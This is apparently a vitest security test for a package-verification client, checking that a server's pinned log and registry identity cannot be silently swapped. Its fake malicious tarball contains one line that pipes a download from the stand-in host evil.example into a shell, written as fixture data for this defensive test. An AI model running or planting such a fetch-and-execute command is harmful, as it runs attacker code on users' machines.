// Issue 11, item 11 — log identity trusted afresh each run. The same server URL first serves log A,
// later an unrelated log B (other origin and keys) with other bytes for a known release. The client
// pinned A's origin, log key and registry key on first use: B fails loudly, naming the flag that
// accepts the change, and only that flag makes the client trust B (pinning it from then on).
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openRegistry, type Registry } from '../../src/registry/server.js';
import { runCli } from '../helpers/cli.js';
import { type Bench, keygen, lockfile, npmTarball, startBench, verifyJson } from './helpers.js';

let bench: Bench;
let other: Registry;
let otherUrl: string;

beforeAll(async () => {
  bench = await startBench('identity-a');
  const dir = mkdtempSync(join(tmpdir(), 'sigil-sec-identity-b-'));
  other = await openRegistry({
    dataDir: join(dir, 'data'),
    host: '127.0.0.1',
    port: 0,
    origin: 'identity-b.security.test/log',
    openWrites: true,
    batchIntervalMs: 2,
  });
  otherUrl = await other.listen();
});
afterAll(async () => {
  await bench?.close();
  await other?.close();
});

describe("a server's log origin, log key and registry key are pinned on first use", () => {
  it('the same URL serving an unrelated log fails with a clear message until the change is accepted', async () => {
    const alice = await keygen(bench.dir, 'alice');
    // Log A has widget@1.0.0; log B has other bytes for the same release.
    const a = npmTarball(bench.dir, 'widget', '1.0.0');
    expect(
      (
        await runCli(
          ['publish', a.path, '--server', bench.url, '--key', alice.privateKey],
          bench.config(),
        )
      ).code,
    ).toBe(0);
    const bDir = mkdtempSync(join(bench.dir, 'b-'));
    const b = npmTarball(
      bDir,
      'widget',
      '1.0.0',
      'require("child_process").exec("curl evil.example | sh");\n',
    );
    const mallory = await keygen(bDir, 'mallory');
    expect(
      (
        await runCli(
          ['publish', b.path, '--server', otherUrl, '--key', mallory.privateKey],
          bench.config(),
        )
      ).code,
    ).toBe(0);
    expect(b.integrity).not.toBe(a.integrity);

    const env = bench.config();
    const first = await verifyJson(lockfile(bench.dir, 'a', [a]), bench.mitm.url, env);
    expect(first.code).toBe(0);
    expect(first.report.project[0]).toMatchObject({
      code: 'SERVER_IDENTITY_FIRST_USE',
      status: 'pass',
    });
    expect(
      (await verifyJson(lockfile(bench.dir, 'a2', [a]), bench.mitm.url, env)).report.project[0],
    ).toMatchObject({ code: 'SERVER_IDENTITY_PINNED' });

    bench.mitm.upstream = otherUrl;
    const lockB = lockfile(bench.dir, 'b', [b]);
    const human = await runCli(['verify', lockB, '--server', bench.mitm.url], env);
    expect(human.code).toBe(1);
    expect(human.stderr).toMatch(
      /^sigil: error: .* now presents another log or other keys than pinned .*log origin identity-a\.security\.test\/log → identity-b\.security\.test\/log/m,
    );
    expect(human.stderr).toMatch(/^sigil: hint: .*--accept-new-server-keys/m);
    expect(human.stdout).toBe(''); // nothing B says was checked or shown
    const json = await verifyJson(lockB, bench.mitm.url, env);
    expect(json.code).toBe(1);
    expect(json.report.project[0]).toMatchObject({
      code: 'SERVER_IDENTITY_CHANGED',
      status: 'fail',
    });
    // fetch-records refuses too
    expect((await runCli(['fetch-records', lockB, '--server', bench.mitm.url], env)).code).toBe(1);

    const accepted = await verifyJson(lockB, bench.mitm.url, env, ['--accept-new-server-keys']);
    expect(accepted.report.project[0]).toMatchObject({
      code: 'SERVER_IDENTITY_ACCEPTED',
      status: 'pass',
    });
    expect(accepted.code).toBe(0);
    // B is pinned now: going back to A is a change again.
    bench.mitm.upstream = bench.url;
    const back = await verifyJson(lockfile(bench.dir, 'a3', [a]), bench.mitm.url, env);
    expect(back.code).toBe(1);
    expect(back.report.project[0]).toMatchObject({ code: 'SERVER_IDENTITY_CHANGED' });
  });
});
